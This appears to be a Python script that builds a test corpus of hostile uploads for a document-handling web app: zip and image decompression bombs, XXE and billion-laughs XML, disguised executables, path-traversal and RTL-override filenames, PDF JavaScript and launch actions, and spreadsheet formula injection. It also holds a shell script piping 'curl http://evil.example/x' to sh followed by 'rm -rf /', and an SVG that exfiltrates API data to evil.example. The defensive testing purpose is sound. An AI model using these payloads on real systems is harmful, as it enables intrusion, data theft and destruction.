"""Builds the hostile-input corpus (issue 14): files an attacker or a careless user uploads.

    .venv/bin/python tests/hostile/make_corpus.py      # rewrites tests/hostile/corpus/ (≈1 min)

Every case is a small file under corpus/ (a safe name on disk) and a line of corpus/manifest.json
giving the name it is uploaded under (path traversal, RTL override, Windows device names… live
only there), its category and whether a checker must refuse it as evidence (`evidence`: refuse /
accept / either). tests/web/test_hostile_inputs.py uploads each one through every upload entry
point. Zip bombs are small files that declare or inflate to gigabytes; nothing here is large.
"""

from __future__ import annotations

import hashlib
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
GIB = 1 << 30
MIB = 1 << 20


@dataclass(frozen=True)
class Case:
    file: str  # the name on disk, under corpus/
    upload_name: str  # the name the upload carries
    category: str
    what: str
    evidence: str  # refuse / accept / either, as an evidence file (progress, close-out, visit, reply)


# --- building blocks ---------------------------------------------------------------------------


def png(width: int = 8, height: int = 6, color: tuple[int, int, int] = (30, 120, 60)) -> bytes:
    """A real PNG written by hand (no Pillow needed to rebuild the corpus)."""
    row = b"\x00" + bytes(color) * width
    return png_chunks(width, height, 2, zlib.compress(row * height, 9))


def png_chunks(width: int, height: int, color_type: int, idat: bytes, bit_depth: int = 8) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_bomb(width: int, height: int) -> bytes:
    """A real 1-bit image of `width`×`height`, all zero: tiny compressed, huge decoded."""
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row * 1000) for _ in range(height // 1000)]
    parts.append(compressor.flush())
    return png_chunks(width, height, 0, b"".join(parts), bit_depth=1)


def tiny_jpeg(width: int = 8, height: int = 8) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 40, 40)).save(out, "JPEG", quality=80)
    return out.getvalue()


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims another size."""
    data = bytearray(tiny_jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif_declaring(width: int, height: int) -> bytes:
    """A 1×1 GIF in a logical screen of `width`×`height`."""
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + image + b"\x3b"


def docx(document_xml: str | bytes | None = None) -> bytes:
    """A real Word file, its body replaced by `document_xml` when given."""
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph("朔州市整改方案（测试）")
    out = io.BytesIO()
    document.save(out)
    if document_xml is None:
        return out.getvalue()
    body = document_xml.encode("utf-8") if isinstance(document_xml, str) else document_xml
    return replace_member(out.getvalue(), "word/document.xml", body)


def xlsx(rows: list[list[object]], *, formulas: dict[str, str] | None = None) -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Sheet1")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    for cell, formula in (formulas or {}).items():
        sheet.write_formula(cell, formula, None, "")
    book.close()
    return out.getvalue()


def replace_member(archive: bytes, name: str, content: bytes, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = content if info.filename == name else source.read(info.filename)
            target.writestr(
                info.filename, data, compress_type=method if info.filename == name else zipfile.ZIP_DEFLATED
            )
    return out.getvalue()


def streamed_member(archive: bytes, name: str, size: int, *, method: int, fill: bytes = b" ") -> bytes:
    """`archive` with member `name` replaced by `size` bytes of `fill`, compressed as it streams."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
                continue
            entry = zipfile.ZipInfo(name, date_time=(2022, 6, 1, 0, 0, 0))
            entry.compress_type = method
            with target.open(entry, "w", force_zip64=size >= 1 << 31) as sink:
                block = fill * (16 * MIB // len(fill))
                left = size
                while left > 0:
                    sink.write(block[: min(left, len(block))])
                    left -= min(left, len(block))
    return out.getvalue()


def lying_sizes(archive: bytes, name: str, declared: int) -> bytes:
    """The member's uncompressed size in both headers rewritten to `declared` (the bytes inflate
    to far more): a checker that trusts the headers and then inflates is fooled."""
    data = bytearray(archive)
    for signature, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            length = struct.unpack_from("<H", data, at + name_len_at)[0]
            if data[at + name_at : at + name_at + length] == name.encode():
                struct.pack_into("<I", data, at + size_at, declared)
            start = at + 4
    return bytes(data)


def nested_zip(levels: int = 3, copies: int = 10, leaf: int = 10 * MIB) -> bytes:
    """42.zip in small: each level holds `copies` of the level below; the leaf is zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("0.txt", b"\x00" * leaf)
    blob = out.getvalue()
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(copies):
                z.writestr(f"{level}-{i}.zip", blob)
        blob = out.getvalue()
    return blob


def _w_body(lines: list[str]) -> str:
    paragraphs = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    return (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        f"{paragraphs}</w:body></w:document>"
    )


PLAN_LINES = [
    "朔州市贯彻落实省生态环境保护督察反馈意见整改方案",
    "附件：整改任务清单",
    "一、思想认识方面",
    "（一）部分领导干部对生态环境保护工作重视不够。&xxe;",
    "整改目标：思想认识明显提高。",
    "整改措施：1.组织专题学习。",
    "责任单位：市委办公室",
    "整改时限：2022年12月底",
]
# A plan the parser reads, its problem text carrying an entity that would read /etc/passwd.
XXE_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + _w_body(PLAN_LINES)
)
XXE_DTD_DOCX = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE w:document SYSTEM "http://127.0.0.1:9/evil.dtd">
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>整改方案 &remote;</w:t></w:r></w:p></w:body></w:document>"""


def laughs(root: str, use: str, levels: int = 10) -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, levels)
    ]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{"".join(entities)}]>\n{use.replace("@", f"&lol{levels - 1};")}'


BILLION_DOCX = laughs(
    "w:document",
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>@</w:t></w:r></w:p></w:body></w:document>",
)
XXE_SHARED = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">
<si><t>交办编号</t></si><si><t>&xxe;</t></si></sst>"""
BILLION_SHARED = laughs(
    "sst",
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">'
    "<si><t>交办编号</t></si><si><t>@</t></si></sst>",
)
XXE_HTML = """<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html><head><meta charset="utf-8"><script>alert(document.cookie)</script></head>
<body><p>朔州市整改方案</p><p>&xxe;</p><img src=x onerror="alert(1)"></body></html>"""
BILLION_HTML = laughs("html", "<html><body><p>整改方案</p><p>@</p></body></html>")

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"\x00" * 64
PE += b"PE\x00\x00\x4c\x01" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\nrm -rf --no-preserve-root /\n"
SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('/api/v1/complaints/').then(r=>r.text()).then(t=>new Image().src='http://evil.example/?'+t)</script>
<rect width="10" height="10"/></svg>"""

PLAN_TEXT = """朔州市贯彻落实省生态环境保护督察反馈意见整改方案
附件：整改任务清单
一、思想认识方面
（一）部分领导干部对生态环境保护工作重视不够。
整改目标：思想认识明显提高。
整改措施：1.组织专题学习。
责任单位：市委办公室
整改时限：2022年12月底
"""
COMPLAINTS_CSV = "交办编号,行政区域,举报内容,是否属实\nD1,朔城区,煤场扬尘污染。,属实\n"


def simple_pdf(objects: list[bytes], *, trailer_extra: bytes = b"", xref: bool = True) -> bytes:
    """A PDF from its objects (1-based, object 1 the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
        out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode() + trailer_extra + b">>\n"
    out += f"startxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


PAGE_OBJECTS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def pdf_plain() -> bytes:
    return simple_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS])


def pdf_js() -> bytes:
    return simple_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_OBJECTS,
            b"<< /Type /Action /S /JavaScript"
            b" /JS (app.alert\\('pwned'\\); this.exportDataObject\\({cName: 'x'}\\);) >>",
        ]
    )


def pdf_js_hidden() -> bytes:
    """The JavaScript action inside a compressed object stream, its name written with #-escapes:
    a byte search for "/JavaScript" finds nothing."""
    inner = b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    header = b"4 0 "
    stream = zlib.compress(header + inner)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(stream),
    )
    return simple_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_OBJECTS,
            b"null",
            objstm + stream + b"\nendstream",
        ],
        xref=False,
    )


def pdf_launch() -> bytes:
    return simple_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_OBJECTS,
            b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        ]
    )


def pdf_encrypted() -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_encryption(owner_password="owner-secret", user_password="user-secret")
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="encrypted evidence")
    return bytes(pdf.output())


# --- the cases -----------------------------------------------------------------------------------

CASES: list[tuple[Case, Callable[[], bytes]]] = []


def add(file: str, upload_name: str, category: str, what: str, evidence: str, content: Callable[[], bytes]) -> None:
    CASES.append((Case(file, upload_name, category, what, evidence), content))


# Zip bombs: declared, honest and lying sizes, other compression methods, nesting.
add(
    "bomb_deflate.docx",
    "整改方案.docx",
    "zip bomb",
    "word/document.xml: 200 MiB of spaces, deflated (ratio ≈1000)",
    "refuse",
    lambda: streamed_member(docx(), "word/document.xml", 200 * MIB, method=zipfile.ZIP_DEFLATED),
)
add(
    "bomb_deflate.xlsx",
    "台账.xlsx",
    "zip bomb",
    "xl/worksheets/sheet1.xml: 200 MiB, deflated",
    "refuse",
    lambda: streamed_member(xlsx([["交办编号"]]), "xl/worksheets/sheet1.xml", 200 * MIB, method=zipfile.ZIP_DEFLATED),
)
add(
    "bomb_bzip2.docx",
    "整改方案.docx",
    "zip bomb",
    "word/document.xml: 2 GiB, bzip2 (a 1 KB file)",
    "refuse",
    lambda: streamed_member(docx(), "word/document.xml", 2 * GIB, method=zipfile.ZIP_BZIP2),
)
add(
    "bomb_lying.docx",
    "整改方案.docx",
    "zip bomb",
    "word/document.xml: 64 MiB deflated, both headers declaring 2,000 bytes",
    "refuse",
    lambda: lying_sizes(
        streamed_member(docx(), "word/document.xml", 64 * MIB, method=zipfile.ZIP_DEFLATED), "word/document.xml", 2000
    ),
)
add(
    "bomb_bzip2_lying.xlsx",
    "交办件.xlsx",
    "zip bomb",
    "xl/sharedStrings.xml: 1 GiB bzip2, headers declaring 2,000 bytes (zipfile inflates bzip2 in one call)",
    "refuse",
    lambda: lying_sizes(
        streamed_member(xlsx([["交办编号"], ["D1"]]), "xl/sharedStrings.xml", GIB, method=zipfile.ZIP_BZIP2),
        "xl/sharedStrings.xml",
        2000,
    ),
)
add(
    "bomb_lzma.xlsx",
    "台账.xlsx",
    "zip bomb",
    "xl/worksheets/sheet1.xml: 1 GiB, LZMA",
    "refuse",
    lambda: streamed_member(xlsx([["交办编号"]]), "xl/worksheets/sheet1.xml", GIB, method=zipfile.ZIP_LZMA),
)
add(
    "nested.zip",
    "佐证材料.zip",
    "zip bomb",
    "42.zip in small: 3 levels × 10 copies of 10 MiB zeros (10 GiB)",
    "refuse",
    nested_zip,
)
add("nested_as_docx.docx", "整改报告.docx", "zip bomb", "the nested zip renamed .docx", "refuse", nested_zip)

# XML external entities and billion laughs in Office XML and HTML.
add(
    "xxe.docx",
    "整改方案.docx",
    "XXE",
    "a plan whose problem text holds an entity reading file:///etc/passwd",
    "either",
    lambda: docx(XXE_DOCX),
)
add(
    "bomb_bzip2_lying.docx",
    "整改方案.docx",
    "zip bomb",
    "word/document.xml: 1 GiB bzip2, headers declaring 2,000 bytes",
    "refuse",
    lambda: lying_sizes(
        streamed_member(docx(), "word/document.xml", GIB, method=zipfile.ZIP_BZIP2), "word/document.xml", 2000
    ),
)
add(
    "xxe_dtd.docx",
    "整改方案.docx",
    "XXE",
    "document.xml: an external DTD at http://127.0.0.1:9/",
    "either",
    lambda: docx(XXE_DTD_DOCX),
)
add(
    "xxe.xlsx",
    "交办件.xlsx",
    "XXE",
    "sharedStrings.xml: an entity reading file:///etc/passwd",
    "either",
    lambda: replace_member(xlsx([["交办编号"], ["D1"]]), "xl/sharedStrings.xml", XXE_SHARED.encode()),
)
add(
    "billion_laughs.docx",
    "整改方案.docx",
    "billion laughs",
    "document.xml: 10 levels × 10 (10¹⁰ lol)",
    "either",
    lambda: docx(BILLION_DOCX),
)
add(
    "billion_laughs.xlsx",
    "交办件.xlsx",
    "billion laughs",
    "sharedStrings.xml: 10 levels × 10",
    "either",
    lambda: replace_member(xlsx([["交办编号"], ["D1"]]), "xl/sharedStrings.xml", BILLION_SHARED.encode()),
)
add(
    "xxe.html",
    "整改方案.html",
    "XXE",
    "HTML: an entity, a <script>, an onerror handler",
    "refuse",
    lambda: XXE_HTML.encode(),
)
add(
    "billion_laughs.html",
    "整改方案.html",
    "billion laughs",
    "HTML with a billion-laughs DOCTYPE",
    "refuse",
    lambda: BILLION_HTML.encode(),
)

# Disguised executables and scripts.
add("elf_as_docx.docx", "整改方案.docx", "disguised executable", "an ELF binary renamed .docx", "refuse", lambda: ELF)
add("elf_as_pdf.pdf", "整改报告.pdf", "disguised executable", "an ELF binary renamed .pdf", "refuse", lambda: ELF)
add("pe_as_jpg.jpg", "现场照片.jpg", "disguised executable", "a Windows PE (MZ) renamed .jpg", "refuse", lambda: PE)
add("pe_as_png.png", "现场照片.png", "disguised executable", "a Windows PE renamed .png", "refuse", lambda: PE)
add(
    "script_as_pdf.pdf", "整改报告.pdf", "disguised executable", "a shell script renamed .pdf", "refuse", lambda: SCRIPT
)
add(
    "script_as_txt.txt",
    "整改方案.txt",
    "disguised executable",
    "a shell script as a text plan",
    "refuse",
    lambda: SCRIPT,
)
add(
    "html_as_png.png",
    "现场照片.png",
    "disguised executable",
    "an HTML page with script renamed .png",
    "refuse",
    lambda: b"<html><script>alert(document.domain)</script></html>",
)
add(
    "svg_script.svg",
    "现场照片.svg",
    "SVG with script",
    "an SVG whose script posts the API's data away",
    "refuse",
    lambda: SVG,
)
add("svg_as_png.png", "现场照片.png", "SVG with script", "the same SVG renamed .png", "refuse", lambda: SVG)

# Decompression-bomb images.
add(
    "png_50000.png",
    "现场照片.png",
    "decompression bomb",
    "a PNG declaring 50000×50000 (2.5 G pixels)",
    "refuse",
    lambda: png_chunks(50000, 50000, 2, zlib.compress(b"\x00" * 1000)),
)
add(
    "png_bomb_real.png",
    "现场照片.png",
    "decompression bomb",
    "a real 20000×20000 1-bit PNG (400 M pixels, 50 KB)",
    "refuse",
    lambda: png_bomb(20000, 20000),
)
add(
    "gif_65535.gif",
    "现场照片.gif",
    "decompression bomb",
    "a GIF with a 65535×65535 logical screen",
    "refuse",
    lambda: gif_declaring(65535, 65535),
)
add(
    "jpeg_65000.jpg",
    "现场照片.jpg",
    "decompression bomb",
    "a JPEG whose frame header says 65000×65000",
    "refuse",
    lambda: jpeg_declaring(65000, 65000),
)

# Formula cells.
add(
    "formulas_ledger.xlsx",
    "整改台账.xlsx",
    "formula cells",
    "a ledger with =HYPERLINK, =cmd|' /C calc'!A0 and formulas without cached values",
    "either",
    lambda: xlsx(
        [["序号", "问题", "整改措施", "责任单位", "整改时限"], [1, "", "", "市委办公室", "2022年12月底"]],
        formulas={"B2": '=HYPERLINK("http://evil.example/c","点击查看")', "C2": "=cmd|' /C calc'!A0"},
    ),
)
add(
    "formulas_complaints.xlsx",
    "交办件.xlsx",
    "formula cells",
    "complaint rows whose cells are formulas",
    "either",
    lambda: xlsx(
        [["交办编号", "行政区域", "举报内容", "是否属实"], ["D1", "朔城区", "", "属实"]],
        formulas={"C2": "=cmd|' /C calc'!A0", "B3": '=HYPERLINK("http://evil.example/","x")'},
    ),
)
add(
    "formulas.csv",
    "交办件.csv",
    "formula cells",
    "a CSV whose cells start with = + - @",
    "refuse",
    lambda: "交办编号,行政区域,举报内容,是否属实\n=cmd|' /C calc'!A0,+朔城区,-2+3,@SUM(1)\n".encode(),
)

# Odd encodings.
add(
    "utf16le_nobom.txt",
    "整改方案.txt",
    "odd encoding",
    "a plan in UTF-16 LE without a BOM",
    "refuse",
    lambda: PLAN_TEXT.encode("utf-16-le"),
)
add(
    "utf16be_nobom.csv",
    "交办件.csv",
    "odd encoding",
    "a complaint CSV in UTF-16 BE without a BOM",
    "refuse",
    lambda: COMPLAINTS_CSV.encode("utf-16-be"),
)
add("gb18030.txt", "整改方案.txt", "odd encoding", "a plan in GB18030", "refuse", lambda: PLAN_TEXT.encode("gb18030"))
add(
    "big5.txt",
    "整改方案.txt",
    "odd encoding",
    "a plan in Big5 (traditional characters)",
    "refuse",
    lambda: PLAN_TEXT.encode("big5", "replace"),
)
add(
    "big5.csv",
    "交办件.csv",
    "odd encoding",
    "a complaint CSV in Big5",
    "refuse",
    lambda: COMPLAINTS_CSV.encode("big5", "replace"),
)
add(
    "mixed_utf8_gbk.txt",
    "整改方案.txt",
    "odd encoding",
    "half the lines UTF-8, half GBK",
    "refuse",
    lambda: PLAN_TEXT[:60].encode("utf-8") + PLAN_TEXT[60:].encode("gbk"),
)
add(
    "nul_bytes.txt",
    "整改方案.txt",
    "odd encoding",
    "a plan with NUL bytes between the characters",
    "refuse",
    lambda: PLAN_TEXT.encode("utf-8").replace(b"\n", b"\x00\n\x00"),
)
add(
    "nul_bytes.csv",
    "交办件.csv",
    "odd encoding",
    "a complaint CSV with NUL bytes",
    "refuse",
    lambda: COMPLAINTS_CSV.encode("utf-8").replace(b",", b",\x00"),
)

# Odd names on a real photo (the content is fine; the name must not be).
for file, name, what in [
    ("name_long.png", "很长的文件名" * 41 + ".png", "a 250-character name (Windows allows 255)"),
    ("name_traversal.png", "../../../../etc/passwd", "path traversal, no extension"),
    ("name_traversal_win.png", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts.png", "Windows path traversal"),
    ("name_absolute.png", "/etc/cron.d/evil.png", "an absolute path"),
    ("name_rtl.png", "整改照片\u202egnp.exe", "an RTL override: shows as 整改照片exe.png"),
    ("name_emoji.png", "现场😀🔥照片.png", "emoji"),
    ("name_con.png", "CON.png", "a Windows device name"),
    ("name_nul.png", "nul.txt.png", "a Windows device name with two extensions"),
    ("name_dotfile.png", ".htaccess", "a leading dot, no extension"),
    ("name_control.png", "a\tb\x01c\x7f.png", "control characters"),
    ("name_zero_width.png", "照\u200b片\ufeff.png", "zero-width characters"),
]:
    add(file, name, "odd name", what, "accept", png)

add(
    "name_too_long.png",
    "很长的文件名" * 60 + ".png",
    "odd name",
    "a 364-character name: beyond Django's 1 KB multipart header limit (refused with a message)",
    "refuse",
    png,
)

# Empty and truncated files.
for ext, name in [
    ("docx", "整改方案.docx"),
    ("png", "现场照片.png"),
    ("pdf", "整改报告.pdf"),
    ("xlsx", "交办件.xlsx"),
    ("csv", "交办件.csv"),
]:
    add(f"empty.{ext}", name, "empty", f"0 bytes named .{ext}", "refuse", lambda: b"")
add("truncated.png", "现场照片.png", "truncated", "the first half of a PNG", "refuse", lambda: png(64, 64)[:60])
add(
    "truncated.jpg",
    "现场照片.jpg",
    "truncated",
    "the first half of a JPEG",
    "refuse",
    lambda: tiny_jpeg(64, 64)[: len(tiny_jpeg(64, 64)) // 2],
)
add(
    "truncated.pdf",
    "整改报告.pdf",
    "truncated",
    "the first half of a PDF",
    "refuse",
    lambda: pdf_plain()[: len(pdf_plain()) // 2],
)
add(
    "truncated.docx",
    "整改方案.docx",
    "truncated",
    "the first half of a Word file",
    "refuse",
    lambda: docx()[: len(docx()) // 2],
)
add(
    "truncated.xlsx",
    "交办件.xlsx",
    "truncated",
    "the first half of an Excel file",
    "refuse",
    lambda: xlsx([["交办编号"], ["D1"]])[:3000],
)

# PDFs that act.
add("pdf_javascript.pdf", "整改报告.pdf", "PDF with JavaScript", "/OpenAction running JavaScript", "refuse", pdf_js)
add(
    "pdf_javascript_hidden.pdf",
    "整改报告.pdf",
    "PDF with JavaScript",
    "the JavaScript action in a compressed object stream, its name #-escaped",
    "refuse",
    pdf_js_hidden,
)
add("pdf_launch.pdf", "整改报告.pdf", "PDF with JavaScript", "/OpenAction launching cmd.exe", "refuse", pdf_launch)
add(
    "pdf_encrypted.pdf",
    "整改报告.pdf",
    "encrypted PDF",
    "RC4-encrypted with an open (user) password",
    "refuse",
    pdf_encrypted,
)

# Controls: ordinary files every evidence entry point must keep accepting.
add("ok_photo.png", "现场照片.png", "control", "an ordinary PNG photo", "accept", lambda: png(32, 24))
add("ok_photo.jpg", "现场照片.jpg", "control", "an ordinary JPEG photo", "accept", lambda: tiny_jpeg(32, 24))
add("ok_report.pdf", "整改报告.pdf", "control", "an ordinary PDF", "accept", pdf_plain)
add("ok_report.docx", "整改报告.docx", "control", "an ordinary Word file", "accept", docx)


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.iterdir():
        old.unlink()
    manifest = []
    for c, build in CASES:
        content = build()
        (CORPUS / c.file).write_bytes(content)
        manifest.append({**asdict(c), "size": len(content), "sha256": hashlib.sha256(content).hexdigest()})
        print(f"{c.file:32} {len(content):>9,} B  {c.category}: {c.what}")
    (CORPUS / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    hostile = sum(1 for c, _ in CASES if c.category != "control")
    print(f"{len(CASES)} files ({hostile} hostile), {sum(m['size'] for m in manifest):,} bytes in all")


if __name__ == "__main__":
    main()
